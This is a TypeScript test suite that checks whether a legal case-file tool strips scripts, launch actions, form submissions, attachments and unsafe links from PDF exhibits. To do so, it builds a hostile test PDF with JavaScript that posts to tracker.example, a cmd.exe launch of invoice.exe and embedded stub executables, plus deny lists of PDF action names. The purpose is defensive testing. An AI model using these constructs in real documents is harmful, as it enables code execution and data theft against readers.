import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import fc from 'fast-check';
import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFPage, type PDFRef } from 'pdf-lib';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { translator } from '../../server/src/l10n';
import { readAct } from '../../server/src/cli/readAct';
import { buildBundle, ExhibitError } from '../../server/src/export/bundle';
import { ExportError, exportPdf } from '../../server/src/export/pdf';
import { describeRemovals } from '../../server/src/export/sanitizePdf';
import { exportCaseFile } from '../../server/src/services/caseFileExport';
import { CLEAN_ASSIGNATION, flatText, modelOfText, pdfTool } from '../export/tools';

const EXAMPLE = join(process.cwd(), 'examples', 'dossier-martin');
// Pièce n° 3 of the example dossier, declared at dossier.yaml:39:14.
const EXHIBIT = join('pieces', '03-constat-3-novembre.pdf');

function actAt(path: string) {
	return readAct(TextDocument.create(pathToFileURL(path).toString(), 'markdown', 1, readFileSync(path, 'utf8')), translator('fr'));
}

/** The names a PDF object uses, as `qpdf --qdf` prints them: `/AA` but not `/AAAAAA+Font`. */
function hasName(qdf: string, name: string): boolean {
	return new RegExp(`/${name}(?=[\\s/<>\\[\\]()%{}]|$)`, 'u').test(qdf);
}

async function pageWithText(document: PDFDocument, text: string): Promise<PDFPage> {
	const page = document.addPage([595, 842]);
	page.drawText(text, { x: 72, y: 700, size: 14, font: await document.embedFont(StandardFonts.Helvetica) });
	return page;
}

/**
 * A constat as an attacker would hand it over: two pages of text carrying every kind of active
 * content a PDF can hold, once each unless said otherwise, with the counts the report must give.
 */
async function hostileExhibit(): Promise<Uint8Array> {
	const document = await PDFDocument.create();
	const context = document.context;
	type Dictionary = NonNullable<Parameters<typeof context.stream>[1]>;
	const ref = (value: Dictionary): PDFRef => context.register(context.obj(value));
	const script = (code: string): PDFRef => ref({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
	const attachment = (payload: string): PDFRef => ref({
		Type: 'Filespec',
		F: PDFString.of('invoice.exe'),
		UF: PDFHexString.fromText('invoice.exe'),
		EF: { F: context.register(context.stream(payload, { Type: 'EmbeddedFile' })) },
	});
	const rect = [72, 600, 300, 620];
	const link = (action: Dictionary): PDFRef => ref({ Type: 'Annot', Subtype: 'Link', Rect: rect, Border: [0, 0, 0], A: action });

	const first = await pageWithText(document, 'Constat de la publication litigieuse');
	const annotatedFile = attachment('MZ-PAYLOAD-ANNOTATION');
	first.node.set(PDFName.of('Annots'), context.obj([
		link({ S: 'URI', URI: PDFString.of('https://www.example.org/publication/42') }),
		link({ S: 'URI', URI: PDFString.of('javascript:app.alert(1)') }), // link 1
		link({ S: 'URI', URI: PDFString.of('file:///C:/Windows/System32/calc.exe') }), // link 2
		link({ S: 'Launch', F: PDFString.of('invoice.exe'), Win: { F: PDFString.of('cmd.exe'), P: PDFString.of('/c invoice.exe') } }), // launch
		link({ S: 'URI', URI: PDFString.of('mailto:greffe@example.org') }),
		ref({ Type: 'Annot', Subtype: 'FileAttachment', Rect: rect, Name: 'PushPin', FS: annotatedFile }), // attachment 1
	]));
	first.node.set(PDFName.of('AA'), context.obj({
		O: script('this.submitForm("https://tracker.example/page")'), // JavaScript 1
		C: ref({ S: 'URI', URI: PDFString.of('https://tracker.example/beacon') }), // automatic
	}));
	first.node.set(PDFName.of('AF'), context.obj([annotatedFile]));

	const second = await pageWithText(document, 'Deuxieme page du constat');
	const button = ref({
		Type: 'Annot',
		Subtype: 'Widget',
		FT: 'Btn',
		Ff: 65536,
		T: PDFString.of('envoyer'),
		Rect: rect,
		A: { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://tracker.example/collect') } }, // form 1
		AA: { K: script('app.launchURL("https://tracker.example/key")') }, // JavaScript 2
	});
	second.node.set(PDFName.of('Annots'), context.obj([
		button,
		ref({ Type: 'Annot', Subtype: 'RichMedia', Rect: rect, RichMediaContent: { Assets: { Names: [] } } }), // multimedia
		link({ S: 'GoToR', F: PDFString.of('autre.pdf'), D: [0, 'Fit'] }), // other file
	]));

	const catalog = document.catalog;
	catalog.set(PDFName.of('OpenAction'), script('app.alert("ouverture")')); // JavaScript 3
	catalog.set(PDFName.of('AA'), context.obj({ WC: ref({ S: 'ImportData', F: PDFString.of('donnees.fdf') }) })); // form 2
	catalog.set(PDFName.of('Names'), context.obj({
		JavaScript: { Names: [PDFString.of('init'), script('app.alert("document")')] }, // JavaScript 4
		EmbeddedFiles: { Names: [PDFString.of('invoice.exe'), attachment('MZ-PAYLOAD-DOCUMENT')] }, // attachment 2
	}));
	catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [button], XFA: context.register(context.stream('<xdp:xdp/>')) })); // XFA
	return document.save();
}

suite('Hostile exhibits: the bundle files pièces without active content', function () {
	this.timeout(120_000);
	const directory = mkdtempSync(join(tmpdir(), 'pretoire-hostile-exhibits-'));
	suiteTeardown(() => rmSync(directory, { recursive: true, force: true }));

	/** A copy of the example case whose pièce n° 3 is the given file. */
	function caseWithExhibit(label: string, exhibit: Uint8Array): string {
		const copy = join(directory, label);
		cpSync(EXAMPLE, copy, { recursive: true });
		writeFileSync(join(copy, EXHIBIT), exhibit);
		return join(copy, 'assignation-orange.md');
	}

	test('Should copy the pages and text of a hostile pièce and none of its scripts, actions, attachments or unsafe links', async () => {
		const exhibit = await hostileExhibit();
		// The crafted pièce does carry what the bundle must drop.
		const source = join(directory, 'hostile.qdf');
		writeFileSync(join(directory, 'hostile.pdf'), exhibit);
		pdfTool('qpdf', '--qdf', '--object-streams=disable', join(directory, 'hostile.pdf'), source);
		const before = readFileSync(source, 'latin1');
		for (const name of ['OpenAction', 'AA', 'JavaScript', 'JS', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'RichMedia', 'EmbeddedFiles', 'EmbeddedFile', 'FileAttachment', 'AF', 'XFA']) {
			assert.ok(hasName(before, name), `the crafted pièce has /${name}`);
		}

		const act = caseWithExhibit('hostile', exhibit);
		const target = join(directory, 'hostile-bundle.pdf');
		const document = await exportCaseFile(actAt(act), 'bundle', target, translator('fr'));
		writeFileSync(target, document.pdf);
		pdfTool('qpdf', '--check', target);
		const qdfPath = join(directory, 'hostile-bundle.qdf');
		pdfTool('qpdf', '--qdf', '--object-streams=disable', target, qdfPath);
		const qdf = readFileSync(qdfPath, 'latin1');
		for (const name of ['OpenAction', 'AA', 'JavaScript', 'JS', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'GoToE', 'RichMedia', 'RichMediaContent', 'EmbeddedFiles', 'EmbeddedFile', 'EF', 'FileAttachment', 'AF', 'XFA']) {
			assert.ok(!hasName(qdf, name), `/${name} reached the bundle`);
		}
		for (const text of ['javascript:', 'file:', 'invoice.exe', 'MZ-PAYLOAD', 'app.alert', 'tracker.example', 'autre.pdf', 'donnees.fdf']) {
			assert.ok(!qdf.includes(text), `« ${text} » reached the bundle`);
		}
		// The links the allow-list admits stay, and every page of the pièce with its text.
		assert.ok(qdf.includes('https://www.example.org/publication/42'), 'the web link of the pièce is kept');
		assert.ok(qdf.includes('mailto:greffe@example.org'), 'the e-mail link of the pièce is kept');
		const pages = Number(/Pages:\s+(\d+)/u.exec(pdfTool('pdfinfo', target))?.[1]);
		// Pièces 4 to 6 are one page each: pièce n° 3 is the two pages before them.
		const third = flatText(pdfTool('pdftotext', '-f', String(pages - 4), '-l', String(pages - 3), target, '-'));
		for (const text of ['Pièce n° 3', 'Constat de la publication litigieuse', 'Deuxieme page du constat']) {
			assert.ok(third.includes(text), `« ${text} » is missing from the pièce’s pages`);
		}

		assert.deepEqual(document.notes, [
			'Pièce n° 3 : contenu actif retiré du dossier de pièces (4 scripts JavaScript, un lancement de programme, 2 envois ou imports de formulaire, un renvoi vers un autre fichier, 2 liens autres que http, https ou mailto, une action automatique à l’ouverture ou à l’affichage, un contenu multimédia ou 3D, 2 fichiers joints, un formulaire XFA) ; ses pages sont reprises telles quelles',
		]);
	});

	test('Should tell the lawyer in the CLI what it removed from which pièce, and write the bundle (exit 0)', async () => {
		const act = caseWithExhibit('cli', await hostileExhibit());
		const target = join(directory, 'cli-bundle.pdf');
		const result = spawnSync(process.execPath, [join('dist', 'cli.js'), 'export', act, '--bundle', '--force', '-o', target], { encoding: 'utf8' });
		assert.equal(result.status, 0, result.stderr);
		assert.match(result.stdout, /^Dossier de pièces écrit : .*cli-bundle\.pdf/mu);
		assert.match(result.stderr, /^Pièce n° 3 : contenu actif retiré du dossier de pièces \(4 scripts JavaScript, .*un formulaire XFA\) ; ses pages sont reprises telles quelles$/mu);
		pdfTool('qpdf', '--check', target);
	});

	test('Should see through escaped names, hex strings and action chains, and keep what is harmless', async () => {
		const document = await PDFDocument.create();
		const context = document.context;
		const page = await pageWithText(document, 'Page unique');
		const rect = [72, 600, 300, 620];
		page.node.set(PDFName.of('Annots'), context.obj([
			// A link to the page itself, followed by a script.
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { S: 'GoTo', D: [page.ref, 'Fit'], Next: { S: 'JavaScript', JS: PDFString.of('app.alert("suite")') } } })), // JavaScript 1
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { S: 'URI', URI: PDFHexString.fromText('javascript:app.alert(2)') } })), // link 1
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { S: 'URI', URI: PDFString.of(' https://www.example.org/') } })), // link 2
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { S: 'URI', URI: PDFString.of('HTTPS://WWW.EXAMPLE.ORG/MAJUSCULES') } })),
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { Type: 'Action', S: 'ActionInventee' } })), // other action
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, A: { S: 'Named', N: 'Print' } })), // other action
			context.register(context.obj({ Type: 'Annot', Subtype: 'Text', Rect: rect, Contents: PDFString.of('Note du constatant') })),
			// A multimedia annotation that lost its /Rect.
			context.register(context.obj({ Type: 'Annot', Subtype: 'RichMedia', RichMediaContent: { Assets: { Names: [] } } })), // multimedia
			// Broken below: pdf-lib cannot parse it, a lenient reader might still run its script.
			context.register(context.obj({ Type: 'Annot', Subtype: 'Link', Rect: rect, Contents: PDFString.of('CASSE'), A: { S: 'JavaScript', JS: PDFString.of('app.alert("brut")') } })), // unreadable
		]));
		// Opening on the first page is no action: it stays unreported.
		document.catalog.set(PDFName.of('OpenAction'), context.obj([page.ref, 'Fit']));
		document.catalog.set(PDFName.of('Names'), context.obj({ JavaScript: { Names: [PDFString.of('cache'), context.obj({ S: 'JavaScript', JS: PDFString.of('x') })] } })); // JavaScript 2
		// `/Java#53cript` is `/JavaScript` to every reader.
		const exhibit = Buffer.from(Buffer.from(await document.save({ useObjectStreams: false })).toString('latin1').replaceAll('/JavaScript', '/Java#53cript').replace('/Contents (CASSE)', '/Contents (CASSE) /X )'), 'latin1');
		assert.ok(exhibit.includes('/Java#53cript') && exhibit.includes('(CASSE) /X )'));

		const blank = await PDFDocument.create();
		blank.addPage();
		const host = await blank.save();
		const bundle = await buildBundle(host, host, [{ numero: 7, intitule: 'Constat', bytes: exhibit, kind: 'pdf' }]);
		assert.equal(bundle.cleaned.length, 1);
		assert.equal(bundle.cleaned[0].numero, 7);
		assert.equal(describeRemovals(bundle.cleaned[0].removed), '2 scripts JavaScript, 2 liens autres que http, https ou mailto, un contenu multimédia ou 3D, 2 autres actions, un objet illisible');
		const target = join(directory, 'escaped.pdf');
		writeFileSync(target, bundle.pdf);
		const qdfPath = join(directory, 'escaped.qdf');
		pdfTool('qpdf', '--qdf', '--object-streams=disable', target, qdfPath);
		const qdf = readFileSync(qdfPath, 'latin1');
		assert.ok(!hasName(qdf, 'JavaScript') && !hasName(qdf, 'Java#53cript') && !hasName(qdf, 'JS') && !hasName(qdf, 'Named') && !hasName(qdf, 'ActionInventee') && !hasName(qdf, 'RichMedia'));
		assert.ok(!qdf.includes('app.alert') && !qdf.includes('CASSE'), 'a script reached the bundle');
		assert.ok(qdf.includes('HTTPS://WWW.EXAMPLE.ORG/MAJUSCULES') && qdf.includes('Note du constatant') && hasName(qdf, 'GoTo'), 'the harmless link, note and page link are kept');
	});

	test('Should report nothing for a clean pièce, links included', async () => {
		const pdf = await exportPdf(modelOfText(readFileSync(CLEAN_ASSIGNATION, 'utf8').replace('Madame Claire MARTIN est journaliste (pièce n° 1).', 'Madame Claire MARTIN est journaliste (pièce n° 1), voir [Légifrance](https://www.legifrance.gouv.fr/).')));
		const bundle = await buildBundle(pdf, pdf, [{ numero: 1, intitule: 'Acte', bytes: pdf, kind: 'pdf' }]);
		assert.deepEqual(bundle.cleaned, []);
		const target = join(directory, 'clean.pdf');
		writeFileSync(target, bundle.pdf);
		pdfTool('qpdf', '--qdf', '--object-streams=disable', target, join(directory, 'clean.qdf'));
		// The act, the bordereau and the pièce each keep the link: three times the same PDF.
		assert.equal(readFileSync(join(directory, 'clean.qdf'), 'latin1').match(/\/URI \(https:\/\/www\.legifrance\.gouv\.fr\/\)/gu)?.length, 3);
	});

	test('Should file a damaged hostile pièce clean or refuse it, never carry its active content', async () => {
		// The hostile pièce without object streams, so that damage hits the objects themselves.
		const exhibit = Buffer.from(await (await PDFDocument.load(await hostileExhibit())).save({ useObjectStreams: false }));
		const blank = await PDFDocument.create();
		blank.addPage();
		const host = await blank.save();
		const damage = fc.oneof(
			fc.record({ at: fc.nat({ max: exhibit.length - 1 }), bytes: fc.uint8Array({ minLength: 1, maxLength: 16 }) }),
			fc.record({ at: fc.nat({ max: exhibit.length - 1 }), bytes: fc.constantFrom(...[')', '>>', 'endobj', '(', '<<', '[', '%'].map((text) => Buffer.from(text, 'latin1'))) }),
		);
		let filed = 0;
		await fc.assert(fc.asyncProperty(fc.array(damage, { minLength: 1, maxLength: 4 }), async (damages) => {
			const damaged = Buffer.from(exhibit);
			damages.forEach(({ at, bytes }) => damaged.set(bytes.subarray(0, damaged.length - at), at));
			let pdf: Uint8Array;
			try {
				pdf = (await buildBundle(host, host, [{ numero: 3, intitule: 'Constat', bytes: damaged, kind: 'pdf' }])).pdf;
			} catch (error) {
				assert.ok(error instanceof ExhibitError, `not a refusal: ${String(error)}`);
				return;
			}
			filed++;
			const target = join(directory, 'damaged.pdf');
			writeFileSync(target, pdf);
			// Exit 3: written with warnings, as when the damage hit a page's compressed content.
			const qpdf = spawnSync('qpdf', ['--qdf', '--object-streams=disable', target, join(directory, 'damaged.qdf')], { encoding: 'utf8' });
			assert.ok(qpdf.status === 0 || qpdf.status === 3, `qpdf exited with ${qpdf.status}: ${qpdf.stderr}`);
			const qdf = readFileSync(join(directory, 'damaged.qdf'), 'latin1');
			for (const name of ['OpenAction', 'AA', 'JavaScript', 'JS', 'Launch', 'SubmitForm', 'ImportData', 'GoToR', 'RichMedia', 'EmbeddedFiles', 'EmbeddedFile', 'EF', 'FileAttachment', 'AF', 'XFA']) {
				assert.ok(!hasName(qdf, name), `/${name} reached the bundle`);
			}
			assert.ok(!qdf.includes('MZ-PAYLOAD') && !qdf.includes('app.alert') && !qdf.includes('javascript:'), 'a payload reached the bundle');
		}), { seed: 24, numRuns: Number(process.env.FUZZ_RUNS ?? 40) });
		// Most damage leaves a readable pièce: the property is tested on bundles, not only on refusals.
		assert.ok(filed > 10, `only ${filed} damaged pièces were filed`);
	});

	test('Should refuse in French a pièce whose page has no size, rather than fail the whole export', async () => {
		const document = await PDFDocument.create();
		const page = await pageWithText(document, 'Page sans format');
		page.node.delete(PDFName.of('MediaBox'));
		const blank = await PDFDocument.create();
		blank.addPage();
		const host = await blank.save();
		await assert.rejects(buildBundle(host, host, [{ numero: 5, intitule: 'Abîmée', bytes: await document.save(), kind: 'pdf' }]), (error: unknown) => error instanceof ExhibitError && error.numero === 5 && /^fichier illisible/u.test(error.message));
	});

	test('Should refuse a dynamic XFA form, whose pages are empty, and say how to file it', async () => {
		const document = await PDFDocument.create();
		await pageWithText(document, 'Please wait...');
		document.catalog.set(PDFName.of('NeedsRendering'), document.context.obj(true));
		const act = caseWithExhibit('xfa', await document.save());
		await assert.rejects(exportCaseFile(actAt(act), 'bundle', join(directory, 'xfa.pdf'), translator('fr')), (error: unknown) => {
			assert.ok(error instanceof ExportError);
			assert.match(error.message, /^Dossier de pièces non écrit : pièce n° 3 \(dossier\.yaml:39:14\) : formulaire XFA dynamique.*imprimez-le vers un PDF/u);
			return true;
		});
	});

	test('Should refuse a PDF portfolio, whose documents are attachments', async () => {
		const document = await PDFDocument.create();
		await pageWithText(document, 'Ce porte-documents contient des fichiers');
		document.catalog.set(PDFName.of('Collection'), document.context.obj({ Type: 'Collection', View: 'D' }));
		const act = caseWithExhibit('portfolio', await document.save());
		await assert.rejects(exportCaseFile(actAt(act), 'bundle', join(directory, 'portfolio.pdf'), translator('fr')), /pièce n° 3 \(dossier\.yaml:39:14\) : porte-documents PDF.*joignez chacun comme une pièce/u);
	});

	test('Should refuse an encrypted pièce in French, with the remedy', async () => {
		const plain = join(directory, 'plain.pdf');
		const encrypted = join(directory, 'encrypted.pdf');
		const document = await PDFDocument.create();
		await pageWithText(document, 'Document confidentiel');
		writeFileSync(plain, await document.save());
		pdfTool('qpdf', '--encrypt', 'utilisateur', 'proprietaire', '256', '--', plain, encrypted);
		const act = caseWithExhibit('encrypted', readFileSync(encrypted));
		await assert.rejects(exportCaseFile(actAt(act), 'bundle', join(directory, 'encrypted-bundle.pdf'), translator('fr')), /pièce n° 3 \(dossier\.yaml:39:14\) : PDF chiffré ou protégé par un mot de passe : joignez-en une copie non protégée/u);
	});
});
